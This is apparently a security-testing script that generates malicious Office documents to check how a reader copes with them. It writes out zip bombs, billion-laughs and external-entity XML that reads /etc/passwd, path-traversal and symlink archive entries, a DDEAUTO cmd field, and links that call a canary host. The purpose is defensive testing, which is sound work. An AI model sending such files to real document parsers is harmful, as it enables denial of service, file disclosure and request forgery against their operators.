"""Writes office documents that mean harm, or are larger than any reader should take: `hostile.py OUT CANARY`.

CANARY is the origin of a server that nobody may ask anything. None of the files is large; some unpack to gigabytes.
"""

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
NAMES = (
    f'xmlns:w="{WORD}" xmlns:p="{SLIDES}" xmlns:a="{DRAWING}" xmlns:r="{OFFICE}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
TEXT = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
SECTION = '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>'
MIB = 1 << 20


def relationships(links):
    text = "".join(
        f'<Relationship Id="{name}" Type="{OFFICE}/{role}" Target="{target}"'
        + (' TargetMode="External"/>' if "://" in target else "/>")
        for name, role, target in links
    )
    return f'{HEAD}<Relationships xmlns="{PACKAGE}">{text}</Relationships>'


def types(kind):
    part, what = ("word/document.xml", "wordprocessingml.document") if kind == "docx" else (
        "ppt/presentation.xml", "presentationml.presentation")
    own = f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{what}.main+xml"/>'
    if kind == "pptx":
        slide = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
        own += f'<Override PartName="/ppt/slides/slide1.xml" ContentType="{slide}"/>'
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="svg" '
        f'ContentType="image/svg+xml"/>{own}</Types>'
    )


def body(inner):
    return f"{HEAD}<w:document {NAMES}><w:body>{inner}{SECTION}</w:body></w:document>"


def package(path, main, links=(), parts=(), kind="docx"):
    """A package; `main` is the text of its main part, or pieces of it."""
    name = "word/document.xml" if kind == "docx" else "ppt/presentation.xml"
    folder, base = name.rsplit("/", 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        archive.writestr("[Content_Types].xml", types(kind))
        archive.writestr("_rels/.rels", relationships([("rId1", "officeDocument", name)]))
        archive.writestr(f"{folder}/_rels/{base}.rels", relationships(links))
        written(archive, name, main)
        for other, content in parts:
            written(archive, other, content)


def written(archive, name, content):
    if isinstance(content, (str, bytes)):
        return archive.writestr(name, content)
    with archive.open(name, "w", force_zip64=True) as part:
        for piece in content:
            part.write(piece)


def presentation(path, shapes, links=(), size=(9_144_000, 6_858_000)):
    main = (
        f'{HEAD}<p:presentation {NAMES}><p:sldIdLst><p:sldId id="256" r:id="s1"/></p:sldIdLst>'
        f'<p:sldSz cx="{size[0]}" cy="{size[1]}"/></p:presentation>'
    )
    slide = f"{HEAD}<p:sld {NAMES}><p:cSld><p:spTree><p:nvGrpSpPr/><p:grpSpPr/>{shapes}</p:spTree></p:cSld></p:sld>"
    parts = [("ppt/slides/slide1.xml", slide), ("ppt/slides/_rels/slide1.xml.rels", relationships(links))]
    package(path, main, [("s1", "slide", "slides/slide1.xml")], parts, kind="pptx")


def shape(number, text="x"):
    x, y = number % 300 * 30_000, number // 300 * 20_000
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{number + 2}" name="s"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm>'
        f'<a:off x="{x}" y="{y}"/><a:ext cx="300000" cy="200000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
        f'</p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:rPr sz="800"/><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>'
    )


def picture(name, how="embed"):
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        f'<pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{how}="{name}"/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" '
        'cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def png(side):
    """A white picture of side x side pixels, of a few kilobytes where it compresses."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row, packer = b"\0" + b"\xff" * (side // 8 + 1), zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def repeated(start, piece, times, end):
    """Pieces of a part, a mebibyte or so at a time."""
    at_once = max(1, MIB // len(piece))
    yield start.encode()
    for done in range(0, times, at_once):
        yield (piece * min(at_once, times - done)).encode()
    yield end.encode()


def around(piece, times, opening="", closing=""):
    start, end = body("|").split("|")
    return repeated(start + opening, piece, times, closing + end)


def bombs(out):
    package(out / "bomb-spaces.docx", around(" " * 1024, 300 * 1024))
    package(out / "bomb-text.docx", around("<w:p><w:r><w:t>words of a long text </w:t></w:r></w:p>", 2_000_000))
    package(out / "one-run.docx", around("words of a long text ", 2_000_000, "<w:p><w:r><w:t>", "</w:t></w:r></w:p>"))
    zeros = lambda: (b"\0" * MIB for _ in range(200))  # noqa: E731 - one generator for each part
    links = [(f"p{at}", "image", f"media/{at}.png") for at in range(6)]
    parts = [(f"word/media/{at}.png", zeros()) for at in range(6)]
    package(out / "bomb-pictures.docx", body("".join(picture(name) for name, _, _ in links)), links, parts)
    one = [("p", "image", "media/p.png")]
    package(out / "picture-30000.docx", body(picture("p")), one, [("word/media/p.png", png(30_000))])
    inner = io.BytesIO()
    for _ in range(12):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
            for at in range(8):
                archive.writestr(f"{at}.zip", inner.getvalue() or b"\0" * MIB)
        inner = outer if outer.tell() < 4 * MIB else inner
    nested = [("e", "package", "embeddings/e.zip"), *one]
    parts = [("word/embeddings/e.zip", inner.getvalue()), ("word/media/p.png", inner.getvalue())]
    package(out / "nested-archives.docx", body(picture("p") + TEXT.format("beside archives")), nested, parts)
    quine = (out / "nested-archives.docx").read_bytes()
    package(out / "document-in-document.docx", body(TEXT.format("outside")), [("e", "package", "e.docx")], [("word/e.docx", quine)])


def entities(out):
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    kinds = {
        "entity-expansion": f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>|&l9;',
        "entity-external": '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>|&e;',
        "entity-canary": f'<!DOCTYPE d SYSTEM "{CANARY}/dtd">|text',
        "entity-parameter": f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{CANARY}/p">%p;]>|text',
    }
    for name, kind in kinds.items():
        doctype, text = kind.split("|")
        package(out / f"{name}.docx", body(TEXT.format(text)).replace(HEAD, HEAD + doctype))


def names(out):
    odd = ["../../../../tmp/recto-escaped", "/tmp/recto-escaped", "..\\..\\tmp\\recto-escaped", "word/\0.xml", "word//styles.xml",
           "C:\\recto-escaped", "\u202edocx.exe", "a" * 5000]
    links = [(f"n{at}", "image", name.replace("\0", "")) for at, name in enumerate(odd)]
    content = body("".join(picture(name) for name, _, _ in links) + TEXT.format("among odd names"))
    package(out / "names.docx", content, links, [(name, png(8)) for name in odd])
    package(out / "names-twice.docx", content, links[:1], [("WORD/DOCUMENT.XML", png(8)), ("word/document.xml", body(""))])
    path = out / "symbolic-link.docx"
    package(path, body(picture("l") + TEXT.format("beside a link")), [("l", "image", "media/l.png")])
    with zipfile.ZipFile(path, "a") as archive:
        entry = zipfile.ZipInfo("word/media/l.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    package(out / "parts-100000.docx", body(TEXT.format("among many")), [], [(f"word/x{at}.xml", "<a/>") for at in range(100_000)])


def sizes(out):
    cell = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
    grid = "<w:tblPr/><w:tblGrid>" + "<w:gridCol/>" * 10 + "</w:tblGrid>"
    package(out / "cells-1000000.docx", around(f"<w:tr>{cell * 10}</w:tr>", 100_000, f"<w:tbl>{grid}", "</w:tbl>"))
    package(out / "columns-100000.docx", around(cell, 100_000, "<w:tbl><w:tblPr/><w:tblGrid/><w:tr>", "</w:tr></w:tbl>"))
    wide = '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    package(out / "span-2147483647.docx", body(wide + TEXT.format("below a wide cell")))
    nested = 500
    package(out / "tables-in-tables.docx", body(f"<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>" * nested + "<w:p/>" + "</w:tc></w:tr></w:tbl><w:p/>" * nested))
    package(out / "deep.docx", body("<w:sdt><w:sdtContent>" * 100_000 + "</w:sdtContent></w:sdt>" * 100_000))
    presentation(out / "shapes-100000.pptx", "".join(map(shape, range(100_000))))
    presentation(out / "groups.pptx", "<p:grpSp><p:nvGrpSpPr/><p:grpSpPr/>" * 5000 + shape(0) + "</p:grpSp>" * 5000)
    presentation(out / "slide-size.pptx", shape(0, "on a wide slide"), size=(2_000_000_000, 2_000_000_000))
    page = SECTION.replace("11906", "2000000000").replace("16838", "1")
    package(out / "page-size.docx", body(TEXT.format("on a wide page") + page))
    breaks = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'
    package(out / "pages-5000.docx", around(breaks, 5000))
    sections = f"<w:p><w:pPr>{SECTION}</w:pPr></w:p>"
    package(out / "sections-20000.docx", around(sections, 20_000))


def broken(out):
    whole = body(TEXT.format("text"))
    wrong = {"cut": whole[:-40], "unbound": whole.replace("<w:p>", "<q:p>"), "twice": whole + whole, "empty": "",
             "control": whole.replace("text", "\1\2"), "utf16": whole.replace("UTF-8", "UTF-16")}
    for name, main in wrong.items():
        package(out / f"xml-{name}.docx", main)
    package(out / "xml-bytes.docx", whole.encode().replace(b"text", b"\xff\xfe\xc0"))
    good = (out / "xml-cut.docx").read_bytes()
    (out / "archive-cut.docx").write_bytes(good[: len(good) // 2])
    (out / "archive-zeros.docx").write_bytes(good[:60] + b"\0" * (len(good) - 60))
    style = '<w:style w:type="paragraph" w:styleId="{0}"><w:basedOn w:val="{1}"/></w:style>'
    loop = f"{HEAD}<w:styles {NAMES}>{style.format('a', 'b')}{style.format('b', 'a')}</w:styles>"
    content = body('<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>in a loop</w:t></w:r></w:p>')
    package(out / "style-loop.docx", content, [("st", "styles", "styles.xml")], [("word/styles.xml", loop)])


def outside(out):
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"><image x:href="{CANARY}/svg" width="9" height="9"/></svg>'
    fields = "".join(
        f'<w:p><w:fldSimple w:instr=\'{kind} "{CANARY}/field" \\d\'><w:r><w:t>stored</w:t></w:r></w:fldSimple></w:p>'
        for kind in ("INCLUDEPICTURE", "INCLUDETEXT", "LINK Word.Document", "DDEAUTO cmd", "IMPORT", "RD")
    )
    vml = '<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="x1" o:href="{0}/vml" src="{0}/src"/></v:shape></w:pict></w:r></w:p>'
    links = [("x1", "image", f"{CANARY}/image"), ("x2", "aFChunk", f"{CANARY}/chunk"), ("x3", "attachedTemplate", f"{CANARY}/template"),
             ("x4", "subDocument", f"{CANARY}/document"), ("x5", "oleObject", f"{CANARY}/object"), ("x6", "image", "media/s.svg"),
             ("x7", "settings", "settings.xml"), ("x8", "aFChunk", "chunk.html"), ("x9", "frame", f"{CANARY}/frame")]
    content = body(
        picture("x1", "link") + picture("x1") + picture("x6") + '<w:altChunk r:id="x2"/><w:altChunk r:id="x8"/><w:subDoc r:id="x4"/>'
        + vml.format(CANARY) + fields + '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Package" r:id="x5"/></w:object></w:r></w:p>'
        + f'<w:p><w:hyperlink r:id="x1"><w:r><w:t>a link that nobody follows</w:t></w:r></w:hyperlink></w:p>'
    )
    settings = f'{HEAD}<w:settings {NAMES}><w:attachedTemplate r:id="t"/></w:settings>'
    parts = [("word/media/s.svg", svg), ("word/settings.xml", settings),
             ("word/_rels/settings.xml.rels", relationships([("t", "attachedTemplate", f"{CANARY}/template2")])),
             ("word/chunk.html", f'<html><img src="{CANARY}/html"><link rel="stylesheet" href="{CANARY}/css">in a chunk</html>')]
    package(out / "canary.docx", content, links, parts)
    fill = f'<p:pic><p:nvPicPr><p:cNvPr id="9" name="x"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="v"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="i"/></p:blipFill><p:spPr/></p:pic>'
    presentation(out / "canary.pptx", shape(0, "beside a link") + fill, [("i", "image", f"{CANARY}/image"), ("v", "video", f"{CANARY}/video"),
                 ("l", "slideLayout", f"{CANARY}/layout"), ("o", "oleObject", f"{CANARY}/object")])


def main():
    global CANARY
    out, CANARY = Path(sys.argv[1]), sys.argv[2]
    out.mkdir(parents=True, exist_ok=True)
    for write in (bombs, entities, names, sizes, broken, outside):
        write(out)


main()
